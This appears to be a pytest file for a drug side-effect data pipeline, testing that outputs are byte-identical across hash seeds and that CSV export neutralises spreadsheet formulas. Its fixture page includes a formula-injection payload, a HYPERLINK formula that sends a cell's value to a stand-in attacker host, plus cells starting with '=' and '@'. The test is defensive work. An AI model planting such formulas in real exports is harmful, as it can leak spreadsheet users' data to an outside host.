"""Same input, byte-identical outputs: two `pipeline run` processes under different hash seeds.

The corpus is the dev pages plus one page written as an attacker would (a
formula as its title and as effects), so the same runs also show that CSV
cells are neutralised for spreadsheets while Parquet keeps the exact text.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from pipeline.contract.tables import ALL_TABLES
from tests.conftest import DEV

PIPELINE = str(Path(sys.executable).with_name("pipeline"))
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click for dosing")'
HOSTILE = f"""---
title: '{HYPERLINK}'
---

# Generic Name

Levomilnacipran

## Side Effects

Common side effects include:

- =1+2 headache
- @SUM(A1:A9) dizziness

Tell your doctor about any of these.
"""
# Fields of manifest.json that name the run rather than its content.
RUN_FIELDS = {"run_id", "started_at", "finished_at"}


@pytest.fixture(scope="module")
def two_runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("determinism")
    raw = root / "raw"
    shutil.copytree(DEV, raw, ignore=shutil.ignore_patterns("*.json"))
    (raw / "hostile.md").write_text(HOSTILE, encoding="utf-8")
    outs = []
    for seed in ("1", "4242"):
        out = root / f"out-{seed}"
        env = {k: v for k, v in os.environ.items() if not k.startswith(("PIPELINE_", "DAGSTER"))}
        # Each run builds its own lexicon cache (under out/.cache), so that is compared too.
        done = subprocess.run(
            [PIPELINE, "run", "--raw-dir", str(raw), "--out-dir", str(out)],
            env={**env, "PYTHONHASHSEED": seed},
            capture_output=True,
            text=True,
            timeout=600,
        )
        assert done.returncode == 0, done.stdout + done.stderr
        outs.append(out)
    return outs[0], outs[1]


def published_files(out: Path) -> dict[str, bytes]:
    """Every file of the run readers see, by path inside the run directory."""
    run_dir = (out / "current").resolve()
    return {
        p.relative_to(run_dir).as_posix(): p.read_bytes()
        for p in sorted(run_dir.rglob("*"))
        if p.is_file()
    }


def test_outputs_are_byte_identical_under_different_hash_seeds(two_runs) -> None:
    first, second = (published_files(out) for out in two_runs)
    expected = {f"{n}.parquet" for n in ALL_TABLES} | {f"csv/{n}.csv" for n in ALL_TABLES}
    assert set(first) == set(second) == expected | {"manifest.json"}
    for rel in sorted(expected):
        assert first[rel] == second[rel], rel
    # The manifest differs only in what names the run; its digests and counts agree.
    one, two = (json.loads(files["manifest.json"]) for files in (first, second))
    assert one["run_id"] != two["run_id"]
    assert {k: v for k, v in one.items() if k not in RUN_FIELDS} == {
        k: v for k, v in two.items() if k not in RUN_FIELDS
    }
    # The lexicon each run built is the same file too.
    caches = [sorted((out / ".cache").glob("lexicon-*.parquet")) for out in two_runs]
    assert len(caches[0]) == 1 and caches[0][0].read_bytes() == caches[1][0].read_bytes()


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(two_runs) -> None:
    out = two_runs[0]
    pages_csv = pd.read_csv(out / "csv" / "pages.csv", dtype=str, keep_default_na=False)
    pages = pd.read_parquet(out / "pages.parquet").set_index("page_id")
    assert pages.loc["hostile.md", "title"] == HYPERLINK  # Parquet keeps the exact text
    csv_title = pages_csv.set_index("page_id").loc["hostile.md", "title"]
    assert csv_title == "'" + HYPERLINK
    mentions = pd.read_parquet(out / "side_effect_mentions.parquet")
    hostile = mentions[mentions.page_id == "hostile.md"]
    assert "=1+2 headache" in set(hostile.raw_text)
    csv = pd.read_csv(out / "csv" / "side_effect_mentions.csv", dtype=str, keep_default_na=False)
    for column in csv.columns:
        if pd.api.types.is_string_dtype(mentions[column]) or mentions[column].dtype == object:
            dangerous = csv[column].str.match(r"^[=+\-@\t\r]")
            assert not dangerous.any(), (column, csv[column][dangerous].tolist())
    assert {"'=1+2 headache", "'@SUM(A1:A9) dizziness"} <= set(csv.raw_text)
